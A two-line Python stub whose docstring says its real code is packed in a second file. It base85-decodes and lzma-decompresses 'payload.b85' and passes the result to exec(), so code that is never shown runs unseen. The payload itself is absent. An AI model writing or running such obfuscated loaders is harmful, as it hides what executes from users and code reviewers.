"""A two-line stub whose packed payload lives in a second file: the code that runs is unseen."""
import base64
import lzma

exec(lzma.decompress(base64.b85decode(open("payload.b85", "rb").read())))
